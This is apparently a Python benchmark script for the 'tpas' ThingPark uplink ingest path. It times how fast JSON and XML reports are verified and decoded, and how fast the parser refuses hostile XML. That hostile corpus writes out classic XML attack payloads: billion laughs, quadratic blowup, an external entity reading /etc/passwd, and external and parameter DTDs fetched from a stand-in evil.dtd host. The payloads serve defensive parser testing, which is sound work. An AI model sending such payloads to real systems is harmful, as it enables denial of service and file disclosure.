"""Protocol benchmark: µs per report for the ingest path's protocol work, plus XML refusals.

Run ``.venv/bin/python bench/protocol.py`` (``--quick`` for a short run). It prints three
markdown tables:

1. verify + decode per report (``check_report``, as ``tpas serve`` runs it, from the raw
   body bytes and the raw query string) for typed JSON, untyped JSON and XML, next to the
   stdlib and msgspec parsers on the same bodies, measured in the same run;
2. the same work split by stage, to show where the time goes;
3. time-to-refusal of a hostile XML corpus through ``tpas.protocol.parse``, next to the
   stdlib ``ElementTree`` on the same input.

Every report is distinct (DevEUI, counters, payload, gateways, Time) and correctly signed,
so caches and branch predictors see a realistic stream, and every verification must pass.
Quote results as ratios to the ``json.loads`` baseline (QUALITY.md): absolute figures
drift from machine to machine and run to run.
"""

from __future__ import annotations

import argparse
import gc
import json
import os
import platform
import pyexpat
import random
import statistics
import sys
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from typing import Any, Final
from urllib.parse import quote

import msgspec

from tpas.errors import ForbiddenXmlError
from tpas.protocol import (
    DEFAULT_RECIPES,
    AsKey,
    BodyFormat,
    body_elements,
    canonical_query,
    check_report,
    compute_token,
    parse,
    to_model,
    verify_report,
)

AS_ID: Final = "TWA_100002167.1111.AS"
CUSTOMER_ID: Final = "100002167"
NOW: Final = datetime(2025, 3, 14, 9, 26, 53, 589000, tzinfo=UTC)
MAX_DRIFT: Final = 120.0
"""Freshness window (seconds); every generated query Time lies within 60 s before NOW."""
JSON_TARGET_US: Final = 20.0
XML_TARGET_US: Final = 80.0
REFUSAL_TARGET_US: Final = 10_000.0
CHUNK: Final = 100
"""Reports per timed sample."""
NAMESPACE: Final = "http://uri.actility.com/lora"
UNTYPED_NUMBERS: Final = frozenset({"TxPower", "NbTrans"})
"""Fields that real untyped-JSON captures carry as bare numbers (SPEC.md §2.2)."""


# --------------------------------------------------------------------------- generation


@dataclass(frozen=True, slots=True)
class Message:
    """One signed report in one rendering."""

    body: bytes
    query: str
    fmt: BodyFormat


@dataclass(frozen=True, slots=True)
class Corpus:
    """The same reports rendered three ways, each with its own signed query."""

    typed: list[Message]
    untyped: list[Message]
    xml: list[Message]


def _hex(rng: random.Random, nbytes: int) -> str:
    return rng.randbytes(nbytes).hex()


def _report(rng: random.Random, index: int) -> dict[str, Any]:
    """An uplink as typed JSON values (numbers are numbers), realistic in shape and size."""
    dev_eui = f"{rng.getrandbits(64):016X}"
    body_time = NOW - timedelta(seconds=60 * index / 2000 + rng.uniform(1.0, 8.0))
    gateways = [
        {
            "Lrrid": f"{rng.getrandbits(32):08X}",
            "Chain": rng.choice((0, 1)),
            "LrrRSSI": round(rng.uniform(-120.0, -40.0), 6),
            "LrrSNR": round(rng.uniform(-15.0, 12.0), 6),
            "LrrESP": round(rng.uniform(-125.0, -40.0), 6),
        }
        for _ in range(rng.randint(1, 3))
    ]
    best = gateways[0]
    return {
        "Time": body_time.astimezone(timezone(timedelta(hours=2))).isoformat(
            timespec="milliseconds"
        ),
        "DevEUI": dev_eui,
        "FPort": rng.randint(1, 223),
        "FCntUp": rng.randint(0, 65_535),
        "LostUplinksAS": rng.choice((0, 0, 0, 1, -1)),
        "ADRbit": 1,
        "MType": rng.choice((2, 4)),
        "FCntDn": rng.randint(0, 4_000),
        "payload_hex": _hex(rng, rng.randint(4, 48)),
        "mic_hex": _hex(rng, 4),
        "Lrcid": "000000CC",
        "LrrRSSI": best["LrrRSSI"],
        "LrrSNR": best["LrrSNR"],
        "LrrESP": best["LrrESP"],
        "SpFact": rng.randint(7, 12),
        "SubBand": f"G{rng.randint(0, 3)}",
        "Channel": f"LC{rng.randint(0, 15)}",
        "DevLrrCnt": len(gateways),
        "Lrrid": best["Lrrid"],
        "Late": 0,
        "LrrLAT": round(rng.uniform(43.0, 52.0), 6),
        "LrrLON": round(rng.uniform(-1.0, 8.0), 6),
        "Lrrs": {"Lrr": gateways},
        "CustomerID": CUSTOMER_ID,
        "CustomerData": {
            "alr": {"pro": "ABEE/APY", "ver": "1"},
            "tags": ["fleet-a", f"site-{rng.randint(1, 40)}"],
            "doms": [{"n": "Building 7", "g": "Sites"}],
            "name": f"tracker-{index:05d}",
        },
        "ModelCfg": "0",
        "DriverCfg": {
            "mod": {"pId": "abeeway", "mId": "micro-tracker", "ver": "3"},
            "app": {"pId": "abeeway", "mId": "asset-tracker", "ver": "2"},
        },
        "InstantPER": round(rng.uniform(0.0, 0.2), 6),
        "MeanPER": round(rng.uniform(0.0, 0.1), 6),
        "DevAddr": _hex(rng, 4).upper(),
        "AckRequested": 0,
        "rawMacCommands": "",
        "TxPower": float(rng.choice((14, 16))),
        "NbTrans": 1,
        "Frequency": rng.choice((868.1, 868.3, 868.5, 867.1, 867.3)),
        "DynamicClass": "A",
    }


def _untyped_value(key: str, value: Any) -> Any:
    if key in UNTYPED_NUMBERS or isinstance(value, dict | str):
        return value
    if isinstance(value, float):
        return f"{value:.6f}"
    return str(value)


def _untyped(report: dict[str, Any]) -> dict[str, Any]:
    """Untyped JSON: text everywhere, except TxPower/NbTrans (as in real captures)."""
    out = {k: _untyped_value(k, v) for k, v in report.items() if k != "Lrrs"}
    out["Lrrs"] = {
        "Lrr": [{k: _untyped_value(k, v) for k, v in g.items()} for g in report["Lrrs"]["Lrr"]]
    }
    return out


def _xml_text(value: Any) -> str:
    if isinstance(value, dict):
        return json.dumps(value, separators=(",", ":"))  # CustomerData, DriverCfg: JSON text
    if isinstance(value, float):
        return f"{value:.6f}"
    return str(value)


def _xml(report: dict[str, Any]) -> bytes:
    parts = [f'<?xml version="1.0" encoding="UTF-8"?>\n<DevEUI_uplink xmlns="{NAMESPACE}">']
    for key, value in report.items():
        if key == "Lrrs":
            lrrs = "".join(
                "<Lrr>" + "".join(f"<{k}>{_xml_text(v)}</{k}>" for k, v in g.items()) + "</Lrr>"
                for g in value["Lrr"]
            )
            parts.append(f"<Lrrs>{lrrs}</Lrrs>")
        else:
            text = _xml_text(value).replace("&", "&amp;").replace("<", "&lt;")
            parts.append(f"<{key}>{text}</{key}>")
    parts.append("</DevEUI_uplink>")
    return "\n".join(parts).encode()


def _signed_query(rng: random.Random, fields: dict[str, Any], key: str, index: int) -> str:
    """A query as ThingPark sends it: canonical order, Time percent-encoded, Token last."""
    sent = NOW - timedelta(seconds=60 * index / 2000 + rng.uniform(0.0, 0.5))
    offset = timezone(timedelta(hours=rng.choice((0, 1, 2))))
    values = {
        "LrnDevEui": str(fields["DevEUI"]),
        "LrnFPort": str(fields["FPort"]),
        "LrnInfos": f"{AS_ID}-1-{rng.randint(100_000, 999_999)}",
        "AS_ID": AS_ID,
        "Time": sent.astimezone(offset).isoformat(timespec="milliseconds"),
    }
    elements = body_elements(DEFAULT_RECIPES["DevEUI_uplink"], fields)
    token = compute_token(elements, canonical_query(values), key)
    encoded = "&".join(f"{name}={quote(value, safe='')}" for name, value in values.items())
    return f"{encoded}&Token={token}"


def build_corpus(count: int, key: str, seed: int) -> Corpus:
    """``count`` distinct uplinks, each rendered as typed JSON, untyped JSON and XML."""
    rng = random.Random(seed)
    corpus = Corpus([], [], [])
    for index in range(count):
        report = _report(rng, index)
        untyped = _untyped(report)
        xml_fields = {k: _xml_text(v) for k, v in report.items()}
        corpus.typed.append(
            Message(
                json.dumps({"DevEUI_uplink": report}).encode(),
                _signed_query(rng, report, key, index),
                BodyFormat.JSON,
            )
        )
        corpus.untyped.append(
            Message(
                json.dumps({"DevEUI_uplink": untyped}).encode(),
                _signed_query(rng, untyped, key, index),
                BodyFormat.JSON,
            )
        )
        corpus.xml.append(
            Message(_xml(report), _signed_query(rng, xml_fields, key, index), BodyFormat.XML)
        )
    return corpus


# --------------------------------------------------------------------------- timing


class Progress:
    """A one-line progress indicator on stderr (silent when disabled)."""

    def __init__(self, total: int, *, enabled: bool) -> None:
        self.total = total
        self.done = 0
        self.enabled = enabled

    def step(self, label: str) -> None:
        self.done += 1
        if self.enabled:
            sys.stderr.write(f"\r[{self.done:>3}/{self.total}] {label:<56}")
            sys.stderr.flush()

    def finish(self) -> None:
        if self.enabled:
            sys.stderr.write("\r" + " " * 64 + "\r")
            sys.stderr.flush()


Run = Callable[[int, int], object]
"""A candidate: does its work for items ``start`` to ``stop`` of the corpus."""


@dataclass(frozen=True, slots=True)
class Timing:
    median: float
    best: float


def measure_all(
    candidates: dict[str, Run], items: int, repeat: int, chunk: int, progress: Progress
) -> dict[str, Timing]:
    """µs per item of each candidate: median and best over many timed chunks.

    Each candidate first runs once over the whole corpus (warm-up). Then, ``repeat`` times,
    the corpus is walked in chunks of ``chunk`` items and every candidate is timed on each
    chunk in turn. Interleaving makes a machine that slows down or speeds up during the run
    shift every candidate alike, so the ratios stay meaningful; many short samples let the
    median ignore the ones another process interrupted.
    """
    for label, run in candidates.items():
        progress.step(f"warm-up: {label}")
        run(0, items)
    samples: dict[str, list[float]] = {label: [] for label in candidates}
    for round_ in range(repeat):
        progress.step(f"timed pass {round_ + 1}/{repeat}")
        for start in range(0, items, chunk):
            stop = min(start + chunk, items)
            for label, run in candidates.items():
                began = time.perf_counter_ns()
                run(start, stop)
                samples[label].append((time.perf_counter_ns() - began) / (stop - start) / 1_000)
    return {
        label: Timing(statistics.median(values), min(values)) for label, values in samples.items()
    }


def ingest(messages: Sequence[Message], keys: Sequence[AsKey]) -> Run:
    """The full protocol work of one ingest request, for every message."""

    def run(start: int, stop: int) -> None:
        for m in messages[start:stop]:
            checked = check_report(
                m.body, m.fmt, m.query, keys, as_id=AS_ID, now=NOW, max_drift=MAX_DRIFT
            )
            if checked.model is None:
                verdict = checked.verdict
                raise SystemExit(f"bench corpus does not verify: {verdict.reason} {verdict.detail}")

    return run


class StagedIngest:
    """The tolerant path (taken by unusual reports), with each stage timed per chunk.

    Stages are timed inside the real pipeline (fresh documents from ``parse`` flow into
    ``verify_report`` and ``to_model``), so the three columns add up to the whole.
    """

    def __init__(self, messages: Sequence[Message], keys: Sequence[AsKey]) -> None:
        self.messages = messages
        self.keys = keys
        self.samples: list[tuple[float, float, float]] = []

    def __call__(self, start: int, stop: int) -> None:
        clock = time.perf_counter_ns
        parsing = verifying = modelling = 0
        for m in self.messages[start:stop]:
            t0 = clock()
            doc = parse(m.body, m.fmt)
            t1 = clock()
            verify_report(doc, m.query, self.keys, as_id=AS_ID, now=NOW, max_drift=MAX_DRIFT)
            t2 = clock()
            to_model(doc)
            t3 = clock()
            parsing += t1 - t0
            verifying += t2 - t1
            modelling += t3 - t2
        n = (stop - start) * 1_000
        self.samples.append((parsing / n, verifying / n, modelling / n))

    def medians(self) -> tuple[float, float, float]:
        """Median µs per report of each stage (warm-up pass excluded)."""
        timed = self.samples[1:]
        return (
            statistics.median(s[0] for s in timed),
            statistics.median(s[1] for s in timed),
            statistics.median(s[2] for s in timed),
        )


def each(fn: Callable[[bytes], object], bodies: Sequence[bytes]) -> Run:
    def run(start: int, stop: int) -> None:
        for body in bodies[start:stop]:
            fn(body)

    return run


def _et_fromstring(body: bytes) -> object:
    return ET.fromstring(body)  # noqa: S314 - the baseline: our own generated, trusted XML


_msgspec_decoder: Final = msgspec.json.Decoder()


# --------------------------------------------------------------------------- hostile XML


def hostile_corpus() -> list[tuple[str, bytes]]:
    """Classic XML attacks, each shaped like a ThingPark uplink body."""
    laughs = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    billion = (
        '<?xml version="1.0"?>\n<!DOCTYPE DevEUI_uplink [\n'
        + "\n".join(laughs)
        + f'\n]>\n<DevEUI_uplink xmlns="{NAMESPACE}"><DevEUI>&lol9;</DevEUI></DevEUI_uplink>'
    )
    quadratic = (
        '<?xml version="1.0"?>\n<!DOCTYPE DevEUI_uplink [<!ENTITY a "'
        + "A" * 100_000
        + '">]>\n'
        + f'<DevEUI_uplink xmlns="{NAMESPACE}"><CustomerData>'
        + "&a;" * 1_000
        + "</CustomerData></DevEUI_uplink>"
    )
    external_entity = (
        '<?xml version="1.0"?>\n<!DOCTYPE DevEUI_uplink [<!ENTITY ext SYSTEM "file:///etc/passwd">]>'
        f'\n<DevEUI_uplink xmlns="{NAMESPACE}"><DevEUI>&ext;</DevEUI></DevEUI_uplink>'
    )
    external_dtd = (
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE DevEUI_uplink SYSTEM "http://example.invalid/evil.dtd">\n'
        f'<DevEUI_uplink xmlns="{NAMESPACE}"><DevEUI>000000000F1D8693</DevEUI></DevEUI_uplink>'
    )
    parameter_entities = (
        '<?xml version="1.0"?>\n<!DOCTYPE DevEUI_uplink [\n'
        "<!ENTITY % pe \"<!ENTITY x 'expanded'>\">\n%pe;\n]>\n"
        f'<DevEUI_uplink xmlns="{NAMESPACE}"><DevEUI>&x;</DevEUI></DevEUI_uplink>'
    )
    external_parameter = (
        '<?xml version="1.0"?>\n<!DOCTYPE DevEUI_uplink [\n'
        '<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">\n%remote;\n]>\n'
        f'<DevEUI_uplink xmlns="{NAMESPACE}"><DevEUI>000000000F1D8693</DevEUI></DevEUI_uplink>'
    )
    return [
        ("billion laughs (10^9 expansion)", billion.encode()),
        ("quadratic blowup (100 KB entity x 1,000)", quadratic.encode()),
        ("external entity (file:///etc/passwd)", external_entity.encode()),
        ("external DTD (http://...)", external_dtd.encode()),
        ("parameter entities (internal)", parameter_entities.encode()),
        ("parameter entity (external)", external_parameter.encode()),
    ]


@dataclass(frozen=True, slots=True)
class Refusal:
    us: float
    outcome: str


def tpas_refusal(body: bytes, repeat: int) -> Refusal:
    """Median µs for tpas to refuse ``body``; the outcome names the exception raised."""
    outcome = "accepted (!)"
    samples = []
    for _ in range(repeat + 1):
        start = time.perf_counter_ns()
        try:
            parse(body, BodyFormat.XML)
        except ForbiddenXmlError as exc:
            outcome = f"{type(exc).__name__} ({exc.reason})"
        except Exception as exc:  # any other outcome is reported as a MISS, not hidden
            outcome = f"{type(exc).__name__} (not ForbiddenXmlError)"
        samples.append((time.perf_counter_ns() - start) / 1_000)
    return Refusal(statistics.median(samples[1:]), outcome)


def stdlib_refusal(body: bytes, repeat: int) -> Refusal:
    """Median µs for ``ElementTree.fromstring`` on ``body`` (expat fetches nothing)."""
    outcome = "parsed"
    samples = []
    for _ in range(repeat + 1):
        start = time.perf_counter_ns()
        try:
            root = ET.fromstring(body)  # noqa: S314 - measuring the stdlib on hostile input
            outcome = f"parsed ({sum(len(e.text or '') for e in root.iter()):,} chars of text)"
        except ET.ParseError as exc:
            outcome = f"ParseError: {str(exc).split(':')[0]}"
        samples.append((time.perf_counter_ns() - start) / 1_000)
        gc.collect()
    return Refusal(statistics.median(samples[1:]), outcome)


# --------------------------------------------------------------------------- output


def fmt_us(us: float) -> str:
    if us >= 1_000:
        return f"{us / 1_000:.1f} ms"
    if us >= 100:
        return f"{us:.0f} µs"
    return f"{us:.1f} µs"


def verdict(us: float, target: float) -> str:
    return "PASS" if us <= target else "MISS"


def machine_info() -> list[str]:
    cpu = platform.processor() or platform.machine()
    try:
        with open("/proc/cpuinfo", encoding="utf-8") as info:
            for line in info:
                if line.startswith("model name"):
                    cpu = line.partition(":")[2].strip()
                    break
    except OSError:
        pass
    usable = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count()
    return [
        f"- Python {platform.python_version()} ({platform.python_implementation()}), "
        f"{platform.system()} {platform.machine()}",
        f"- CPU: {cpu}; {os.cpu_count()} logical CPUs ({usable} usable by this process)",
        f"- msgspec {msgspec.__version__}, {pyexpat.EXPAT_VERSION}",
    ]


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--quick", action="store_true", help="a short run (200 reports, 3 reps)")
    parser.add_argument("--messages", type=int, help="distinct reports per format (2000)")
    parser.add_argument("--repeat", type=int, help="timed passes per measurement (7)")
    parser.add_argument("--seed", type=int, default=2, help="corpus seed")
    args = parser.parse_args(argv)
    count = args.messages or (200 if args.quick else 2_000)
    repeat = args.repeat or (3 if args.quick else 7)
    key_text = random.Random(args.seed).randbytes(16).hex()
    keys = [AsKey(key_text)]
    corpus = build_corpus(count, key_text, args.seed)
    sizes = {
        name: statistics.mean(len(m.body) for m in msgs)
        for name, msgs in (
            ("typed", corpus.typed),
            ("untyped", corpus.untyped),
            ("xml", corpus.xml),
        )
    }
    formats = (("typed JSON", corpus.typed), ("untyped JSON", corpus.untyped), ("XML", corpus.xml))
    typed_bodies = [m.body for m in corpus.typed]
    untyped_bodies = [m.body for m in corpus.untyped]
    candidates: dict[str, Run] = {
        "json.loads typed": each(json.loads, typed_bodies),
        "json.loads untyped": each(json.loads, untyped_bodies),
        "msgspec typed": each(_msgspec_decoder.decode, typed_bodies),
        "msgspec untyped": each(_msgspec_decoder.decode, untyped_bodies),
        "ElementTree XML": each(_et_fromstring, [m.body for m in corpus.xml]),
    }
    staged: dict[str, StagedIngest] = {}
    for name, msgs in formats:
        candidates[f"tpas {name}"] = ingest(msgs, keys)
        staged[name] = candidates[f"stages {name}"] = StagedIngest(msgs, keys)
    hostile_inputs = hostile_corpus()
    progress = Progress(len(candidates) + repeat + len(hostile_inputs), enabled=not args.quick)
    timings = measure_all(candidates, count, repeat, CHUNK, progress)
    us = {label: timing.median for label, timing in timings.items()}
    baseline = us["json.loads typed"]

    hostile = []
    for name, body in hostile_inputs:
        progress.step(f"hostile XML: {name}")
        hostile.append(
            (
                name,
                tpas_refusal(body, 200 if args.quick else 2_000),
                stdlib_refusal(body, repeat),
                body,
            )
        )
    progress.finish()

    print("# tpas protocol benchmark")
    print()
    print(*machine_info(), sep="\n")
    print(
        f"- {count:,} distinct signed uplinks per format, 1-3 gateways each; mean body "
        f"{sizes['typed']:,.0f} B typed JSON, {sizes['untyped']:,.0f} B untyped JSON, "
        f"{sizes['xml']:,.0f} B XML"
    )
    print(
        f"- one warm-up pass, then {repeat} timed passes over the corpus in chunks of {CHUNK} "
        f"reports ({repeat * -(-count // CHUNK)} samples per row), all rows interleaved chunk by "
        "chunk; µs/report is the median sample, best the fastest; garbage collector on"
    )
    print()
    print("## Verify + decode, µs per report")
    print()
    print(
        "tpas rows: `check_report`, the work `tpas serve` does per report (AS_ID, freshness, "
        "binding, SHA-256 token, decoding to the model), from raw body bytes and the raw "
        "query string: for a usual query and body, one msgspec pass into the model "
        "(JSON) or one walk of the ElementTree (XML); the tolerant "
        "`parse` -> `verify_report` -> `to_model` path for anything unusual."
    )
    print()
    print(
        "| what | format | µs/report | best | × json.loads (typed) | × stdlib parser, same bodies "
        "| target | result |"
    )
    print("| --- | --- | ---: | ---: | ---: | ---: | ---: | --- |")
    rows: list[tuple[str, str, str, str, float | None]] = [
        (
            "tpas verify + decode",
            "typed JSON",
            "tpas typed JSON",
            "json.loads typed",
            JSON_TARGET_US,
        ),
        (
            "tpas verify + decode",
            "untyped JSON",
            "tpas untyped JSON",
            "json.loads untyped",
            JSON_TARGET_US,
        ),
        ("tpas verify + decode", "XML", "tpas XML", "ElementTree XML", XML_TARGET_US),
        ("stdlib `json.loads` (baseline)", "typed JSON", "json.loads typed", "", None),
        ("stdlib `json.loads`", "untyped JSON", "json.loads untyped", "", None),
        ("`msgspec.json.decode` to dict", "typed JSON", "msgspec typed", "json.loads typed", None),
        (
            "`msgspec.json.decode` to dict",
            "untyped JSON",
            "msgspec untyped",
            "json.loads untyped",
            None,
        ),
        ("stdlib `ElementTree.fromstring`", "XML", "ElementTree XML", "", None),
    ]
    for what, fmt_name, label, own, target in rows:
        value = us[label]
        own_ratio = f"{value / us[own]:.2f}" if own else "1.00"
        target_text = f"≤ {target:.0f} µs" if target is not None else "-"
        result = verdict(value, target) if target is not None else "-"
        print(
            f"| {what} | {fmt_name} | {value:.1f} | {timings[label].best:.1f} "
            f"| {value / baseline:.2f} | {own_ratio} "
            f"| {target_text} | {result} |"
        )
    print()
    print("## The tolerant path by stage, µs per report")
    print()
    print(
        "The path unusual reports take (and every report before the shortcut); each stage "
        "timed inside the pipeline; "
        "medians per stage, so the sum is close to, not equal to, the whole."
    )
    print()
    print("| format | `parse` | `verify_report` | `to_model` | sum |")
    print("| --- | ---: | ---: | ---: | ---: |")
    for name, _ in formats:
        p, v, t = staged[name].medians()
        print(f"| {name} | {p:.1f} | {v:.1f} | {t:.1f} | {p + v + t:.1f} |")
    print()
    print("## Hostile XML: time to refusal")
    print()
    print(
        "| input | size | tpas `parse` | tpas outcome | stdlib ElementTree | stdlib outcome "
        "| target | result |"
    )
    print("| --- | ---: | ---: | --- | ---: | --- | ---: | --- |")
    for name, ours, theirs, body in hostile:
        ok = ours.outcome.startswith("ForbiddenXmlError") and ours.us < REFUSAL_TARGET_US
        print(
            f"| {name} | {len(body):,} B | {fmt_us(ours.us)} | {ours.outcome} | "
            f"{fmt_us(theirs.us)} | {theirs.outcome} | < 10 ms | {'PASS' if ok else 'MISS'} |"
        )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
